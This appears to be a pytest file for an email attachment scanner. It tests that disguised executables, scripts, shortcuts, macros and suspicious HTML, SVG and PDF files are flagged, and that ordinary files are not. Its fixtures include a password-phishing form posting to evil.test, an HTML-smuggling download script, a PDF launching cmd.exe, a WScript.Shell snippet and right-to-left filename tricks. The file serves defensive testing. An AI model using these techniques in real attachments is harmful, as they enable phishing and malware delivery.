"""Files that run, lie or hide, and the files of every day."""

import pytest

from lazaretto.scan.checks.attachments import check
from tests.helpers.letters import File, judged, letter, rules_of, seen
from tests.unit.mail.files import locked_zip_of, ole_of, zip_of

EXE = b"MZ" + bytes(200)
LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60)
ISO = bytes(0x8001) + b"CD001" + bytes(2000)
ONENOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(100)
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
JS = b"var s = new ActiveXObject('WScript.Shell'); function go() { s.Run('calc'); } eval(go());\n"
LOGIN = b"<html><body><form action='http://evil.test/'><input type=password name=p></form></body></html>"
SMUGGLER = (
    b"<html><body><script>var d = atob('" + b"TVqQAAMAAAAEAAAA" * 100 + b"'); var b = new Blob([d]);"
    b" var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'x.zip'; a.click();"
    b"</script></body></html>"
)


@pytest.mark.parametrize(
    ("file", "rule"),
    [
        (File("report.pdf", EXE), "attachment_program"),
        (File("report.pdf", EXE), "attachment_type_lies"),
        (File("notes.js", JS), "attachment_script"),
        (File("invoice.pdf.lnk", LNK), "attachment_shortcut"),
        (File("invoice.pdf.lnk", LNK), "attachment_double_extension"),
        (File("disk.img", ISO), "attachment_disk_image"),
        (File("plan.one", ONENOTE), "attachment_onenote"),
        (File("setup.msi", b"anything"), "attachment_program_name"),
        (File("invoice\u202efdp.exe", EXE), "attachment_rtl_name"),
        (File("invoice.pdf" + " " * 60 + ".exe", EXE), "attachment_padded_name"),
        (File("a.zip", locked_zip_of({"a.txt": b"x"})), "attachment_encrypted"),
        (File("a.zip", zip_of({"invoice.pdf.exe": EXE})), "archive_holds_program"),
        (File("page.html", b"<html><body>Hello</body></html>", "text/html"), "attachment_html"),
        (File("login.html", LOGIN, "text/html"), "attachment_html_password"),
        (File("doc.html", SMUGGLER, "text/html"), "attachment_html_smuggling"),
        (
            File("pic.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
            "attachment_svg_script",
        ),
        (File("a.doc", ole_of("Macros", "VBA", "_VBA_PROJECT")), "attachment_macro"),
        (File("a.txt", EICAR), "eicar_file"),
        (File("a.bin", b"MZ" + bytes(50)), "attachment_program"),
        (File("a.pdf", b"%PDF-1.4\n1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj"), "pdf_launch"),
        (
            File("a.pdf", b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"),
            "pdf_script",
        ),
    ],
    ids=lambda x: x if isinstance(x, str) else x.name[:12],
)
def test_dangerous_files(file: File, rule: str):
    """The content decides; the finding names the file and its part."""
    finding = seen(check, letter(attachments=[file]))[rule]

    assert "attachment" == finding.place
    assert finding.attachment
    assert finding.part is not None


@pytest.mark.parametrize(
    "file",
    [
        File("notes.txt", b"Just a few words."),
        File(
            "patch.diff",
            b"diff --git a/x.js b/x.js\n+function go() { return 1; }\n+var x = eval(y);\n",
            "text/x-diff",
        ),
        File("photo.jpg", b"\xff\xd8\xff\xe0" + bytes(100), "image/jpeg"),
        File("report.pdf", b"%PDF-1.4\n1 0 obj<<>>endobj", "application/pdf"),
        File("archive.v1.2.zip", zip_of({"readme.txt": b"hello", "photo.jpg": b"x"}), "application/zip"),
        File("signature.asc", b"-----BEGIN PGP SIGNATURE-----", "application/pgp-signature"),
        File("run.py", b"print('hello')\n", "text/x-python"),
    ],
    ids=lambda f: f.name,
)
def test_files_of_every_day(file: File):
    """Documents, pictures, patches and plain archives are no finding."""
    assert {} == seen(check, letter(attachments=[file]))


@pytest.mark.parametrize("word", ["The password is 1234", "Passwort: 1234", "Senha: 1234"])
def test_an_encrypted_archive_with_its_password(word: str):
    """The text opens what was locked for filters only."""
    message = letter(
        text=f"Please see the file. {word}", attachments=[File("a.zip", locked_zip_of({"a.doc": b"x"}))]
    )

    assert "encrypted_with_password" in rules_of(judged(message))


def test_many_attachments_are_bounded():
    """A message of a thousand files is looked at up to the limit, and the scan ends."""
    message = letter(attachments=[File(f"f{i}.exe", EXE) for i in range(300)])

    assert 0 < len(list(check(message, None, None))) <= 1000  # type: ignore[arg-type]
